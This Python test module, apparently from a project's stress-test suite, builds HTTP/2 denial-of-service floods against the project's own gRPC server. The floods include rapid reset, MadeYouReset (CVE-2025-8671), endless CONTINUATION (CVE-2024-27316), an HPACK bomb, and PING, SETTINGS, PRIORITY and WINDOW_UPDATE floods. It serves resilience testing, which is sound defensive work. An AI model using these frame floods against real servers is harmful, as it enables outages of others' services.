"""Floods of HTTP/2 frames: the known families of CVEs, from strangers without a token."""

import itertools
import struct
from collections.abc import Callable, Iterator

from hub.contract import rpcs
from hub.transports.grpc.native import http2_frames as frames
from tests.support.http2_peer import REQUEST, Builder, message
from tests.torture.attacks.target import Attack, Tally, Target, flood

_AT_ONCE = 64
_CONNECTIONS = 4
_INCREMENTAL, _INDEXED = 0x40, 0x80
_PATH = rpcs.rpc("GetSnapshot").path


def block(token: str = "", path: str = _PATH) -> bytes:
    """An encoded request head that uses no compression state."""
    fields = tuple((name, path if name == ":path" else value) for name, value in REQUEST)
    if token:
        fields = (*fields, ("authorization", f"Bearer {token}"))
    return Builder().block(fields, indexed=False)


def hello(settings: dict[int, int] | None = None) -> bytes:
    return Builder().hello(settings)


def headers(stream: int, encoded: bytes, flags: int = frames.END_HEADERS) -> bytes:
    return frames.frame(frames.HEADERS, flags, stream, encoded)


def call(stream: int, encoded: bytes) -> bytes:
    """A whole unary call with an empty request."""
    return headers(stream, encoded) + frames.frame(
        frames.DATA, frames.END_STREAM, stream, message(b"")
    )


def _flooding(
    make: Callable[[int], bytes], greeting: Callable[[], bytes] = hello, at_once: int = _AT_ONCE
) -> Attack:
    """Sends what `make` returns for 0, 1, 2, ..., many at once."""

    def pieces() -> Iterator[bytes]:
        numbers = itertools.count()
        while True:
            yield b"".join(make(number) for number in itertools.islice(numbers, at_once))

    async def attack(target: Target, tally: Tally) -> None:
        await flood(target.grpc, _CONNECTIONS, tally, greeting, pieces, at_once)

    return attack


_HEAD = block()


def _rapid_reset(number: int) -> bytes:
    stream = 2 * number + 1
    return headers(stream, _HEAD) + frames.rst_stream(stream, 8)


def _made_you_reset(number: int) -> bytes:
    """Makes the server reset the stream: an increment of 0 (CVE-2025-8671)."""
    stream = 2 * number + 1
    return headers(stream, _HEAD) + frames.window_update(stream, 0)


def _begun() -> bytes:
    """A connection with one stream whose headers are there."""
    return hello() + headers(1, _HEAD)


def _endless_headers() -> bytes:
    return hello() + frames.frame(frames.HEADERS, 0, 1, _HEAD)


def _continuation(_number: int) -> bytes:
    """Another part of a header block that never ends (CVE-2024-27316 and others)."""
    field = b"\x00\x05x-pad" + b"\x7f\xe1\x00" + b"a" * 224
    return frames.frame(frames.CONTINUATION, 0, 1, field * 8)


def _bomb(number: int) -> bytes:
    """A field of 4,000 bytes goes to the table once, and is then named by one byte each time."""
    stream = 2 * number + 1
    value = b"v" * 4_000
    length = bytes((0x7F, (len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7))
    first = bytes((_INCREMENTAL, 5)) + b"x-big" + length + value
    repeated = bytes((_INDEXED | 62,)) * 8_000
    return headers(stream, _HEAD + first + repeated)


HTTP2: dict[str, Attack] = {
    "rapid reset": _flooding(_rapid_reset),
    "resets that the server makes": _flooding(_made_you_reset),
    "endless CONTINUATION": _flooding(_continuation, _endless_headers, at_once=4),
    "HPACK bomb": _flooding(_bomb, at_once=1),
    "PING flood": _flooding(lambda number: frames.ping(number.to_bytes(8))),
    "SETTINGS flood": _flooding(lambda number: frames.settings({4: 65_535 + number % 2})),
    "PRIORITY flood": _flooding(
        lambda number: frames.frame(
            frames.PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * number + 3, 9)
        )
    ),
    "empty DATA frames": _flooding(lambda _: frames.frame(frames.DATA, 0, 1), _begun),
    "WINDOW_UPDATE flood": _flooding(lambda _: frames.window_update(1, 1), _begun),
    "frames of unknown types": _flooding(lambda _: frames.frame(0xBB, 0, 0, b"x" * 32)),
}
